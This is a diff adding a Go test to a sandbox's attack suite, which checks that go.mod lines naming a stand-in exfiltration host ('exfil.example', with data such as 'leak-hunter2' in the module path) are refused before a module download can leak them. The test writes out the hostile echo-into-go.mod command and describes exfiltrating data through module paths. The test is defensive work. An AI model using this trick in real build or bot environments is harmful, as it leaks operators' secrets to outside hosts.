@@ -154,6 +154,58 @@ func TestAttacks(t *testing.T) {
 			row.run(t, ro)
 		})
 	}
+	// A sandboxed command writes require and replace lines naming a host of
+	// its choosing into go.mod; the bot's next command would run `go mod
+	// download` on the host with the operator's proxy: the path itself is
+	// the exfiltrated data (issue 33; the go command's own GOVCS/GOPROXY
+	// notes on module paths as requests, CVE-2023-29405-style module
+	// path abuse). The download is refused naming the module, and the
+	// proxy sees no request.
+	t.Run("go.mod names an exfiltration host", func(t *testing.T) {
+		t.Parallel()
+		needGo(t)
+		var mu sync.Mutex
+		var asked []string
+		proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			mu.Lock()
+			asked = append(asked, r.URL.Path)
+			mu.Unlock()
+			http.NotFound(w, r)
+		}))
+		t.Cleanup(proxy.Close)
+		caches, err := sandbox.NewCaches(t.TempDir(), sandbox.CacheOptions{DownloadEnv: []string{"GOPROXY=" + proxy.URL, "GOSUMDB=off"}})
+		must(t, err)
+		dir := t.TempDir()
+		must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n"), 0o644))
+		p := sandbox.Policy{Caches: caches}
+		for _, line := range []string{"require exfil.example/leak-hunter2 v1.0.0", "replace github.com/x/y => exfil.example/leak-hunter3 v1.0.0"} {
+			out, err := runAttack(t, p, dir, "echo '"+line+"' >> go.mod", os.Environ())
+			if err != nil {
+				t.Fatalf("writing go.mod: %v\n%s", err, out)
+			}
+			_, err = p.Command(t.Context(), dir, []string{"go", "build", "./..."}, os.Environ())
+			var mhe *sandbox.ModuleHostError
+			if !errors.As(err, &mhe) || mhe.Host != "exfil.example" {
+				t.Fatalf("want a ModuleHostError for exfil.example, got %v", err)
+			}
+			t.Log(err)
+			must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n"), 0o644))
+		}
+		// With the host allowed the same go.mod is asked for: the proxy
+		// would have seen it.
+		must(t, os.WriteFile(filepath.Join(dir, "go.mod"), []byte("module example.com/app\n\ngo 1.22\n\nrequire exfil.example/leak-hunter2 v1.0.0\n"), 0o644))
+		_, err = sandbox.Policy{Caches: caches, ModuleHosts: []string{"exfil.example"}}.Command(t.Context(), dir, []string{"true"}, os.Environ())
+		mu.Lock()
+		defer mu.Unlock()
+		if err == nil || len(asked) == 0 || !strings.Contains(strings.Join(asked, " "), "leak-hunter2") {
+			t.Fatalf("allowed: err %v, proxy asked %v", err, asked)
+		}
+		for _, a := range asked {
+			if strings.Contains(a, "hunter3") {
+				t.Errorf("the refused replace reached the proxy: %s", a)
+			}
+		}
+	})
 	// Two runs at once on the same disk: the hostile one writes 320 MiB
 	// into its tree (within its own budget); the innocent one, with a
 	// 64 MiB budget, writes little and must end normally (issue 33: one
